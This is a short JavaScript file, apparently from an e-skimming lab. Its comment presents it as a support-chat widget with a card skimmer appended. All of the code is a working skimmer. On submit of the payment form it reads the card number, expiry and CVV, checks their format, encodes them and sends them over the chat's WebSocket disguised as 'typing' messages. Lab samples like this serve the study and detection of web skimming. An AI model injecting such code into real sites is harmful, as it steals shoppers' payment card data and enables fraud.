// A support-chat widget with a WebSocket skimmer appended (the Kritec
// pattern of pci-tamper-protect/e-skimming-labs' websocket-exfil variant):
// the chat's own socket carries the card fields once they pass a check.
(function () {
  var ws = new WebSocket(document.querySelector('meta[name=chat-endpoint]').content);
  var val = function (id) { return document.getElementById(id).value; };
  document.getElementById('payment-form').addEventListener('submit', function () {
    if (val('n').replace(/\D/g, '').length < 15 || !/^\d\d\/\d\d$/.test(val('e')) || !/^\d{3}$/.test(val('c'))) return;
    var msg = JSON.stringify({t: 'typing', d: btoa(val('n') + '|' + val('e') + '|' + val('c'))});
    var send = function () { ws.readyState === 1 ? ws.send(msg) : setTimeout(send, 50); };
    send();
  });
})();
